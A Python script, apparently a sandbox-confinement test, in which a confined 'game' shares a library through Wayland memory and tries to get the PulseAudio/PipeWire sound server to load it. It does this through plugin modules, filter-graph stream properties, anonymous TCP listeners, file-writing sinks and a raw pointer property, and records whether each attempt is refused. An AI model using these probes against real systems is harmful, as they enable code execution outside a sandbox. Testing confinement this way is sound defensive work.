"""A game that tries to get into its display by the sound server, and then plays a tone.

What it wants to be loaded is a library (`intruder.c`) in memory that it hands to the display server as the pixels of a window, so
that there is a path to it where the sound server is: that of the display server's descriptor. A game would try all numbers; this
one is told in /opt/told/place."""

import ctypes
import os
import struct
import time
from pathlib import Path

import pulse
import wayland

LIBRARY = Path("/opt/game/intruder.so").read_bytes()
PLACE = Path("/opt/told/place")
# How long the server may take to answer.
PATIENCE = 5
# Modules with arguments with which a sound server that takes them loads a library, listens on the network, writes a file,
# runs more than is needed, or has another output than the game's.
MODULES = {
    "module-ladspa-sink": "sink_name=one plugin={place} label=tone",
    "module-ladspa-source": "source_name=two plugin={place} label=tone",
    "module-native-protocol-tcp": "port=4713 auth-anonymous=true",
    "module-simple-protocol-tcp": "port=4714 playback=true",
    "module-pipe-sink": "sink_name=three file=/run/display/written.pipe",
    "module-null-sink": "sink_name=four",
    "module-combine-sink": "sink_name=five",
    "module-echo-cancel": "aec_method=webrtc",
    "module-switch-on-connect": "",
}
GRAPH = '{{ nodes = [ {{ type = {kind} name = one plugin = "{place}" label = tone }} ] }}'


def streams(place):
    """Properties of streams with which a sound server that believes them loads a library, writes a file, or takes a number for
    the address of something that it calls."""
    for kind in "ladspa", "lv2", "sofa":
        yield {"audioconvert.filter-graph": GRAPH.format(kind=kind, place=place)}
    # There may be several.
    yield {"audioconvert.filter-graph.3": GRAPH.format(kind="ladspa", place=place)}
    yield {"debug.wav-path": "/run/display/written.wav"}
    yield {"audio.adapt.converter": "support.log", "log.file": "/run/display/written.log"}
    yield {"adapt.follower.node": "pointer:0x1000"}


def share(connection, names):
    """Memory with the library in it, which the display server has too from here on."""
    memory = os.memfd_create("intruder")
    os.write(memory, LIBRARY)
    wayland.bind(connection, names, "wl_shm", wayland.FREE)
    wayland.send(connection, wayland.FREE, 0, struct.pack("=Ii", wayland.FREE + 1, len(LIBRARY)), [memory])
    for _ in wayland.round_trip(connection, wayland.FREE + 2):
        pass
    return memory


def load(module, arguments):
    try:
        pulse.Server({}, PATIENCE).load(module, arguments)
        return "loaded"
    except pulse.Refused as error:
        return f"refused {error}"


def play(values, own=None):
    """Plays in a stream with properties, as a program with properties of its own."""
    try:
        server = pulse.Server(own or {}, PATIENCE)
        server.play(server.open(values), 0.3)
        # The server looks at the sound when it has all of it, and not before.
        time.sleep(0.5)
        return "played"
    except (pulse.Refused, OSError) as error:
        return f"failed: {error}"


def main():
    connection, names = wayland.connect()
    memory = share(connection, names)
    # It does what it should where it is loaded.
    ctypes.CDLL(f"/proc/self/fd/{memory}")
    print("loaded by", Path(os.environ["XDG_RUNTIME_DIR"], "loaded").read_text(encoding="utf-8").strip(), flush=True)
    while not PLACE.exists():
        time.sleep(0.05)
    place = PLACE.read_text(encoding="utf-8").strip()
    for module, arguments in MODULES.items():
        print("module", module, load(module, arguments.format(place=place)), flush=True)
    # Not a socket of the display's, for which PipeWire's server would take it.
    print("stream of a program with remote.name", play({}, {"remote.name": "/run/display/wayland-0"}), flush=True)
    for values in streams(place):
        print("stream with", *values, play(values), flush=True)
    server = pulse.Server({}, PATIENCE)
    channel = server.open({})
    print("tone on", flush=True)
    server.play(channel, 600)


main()
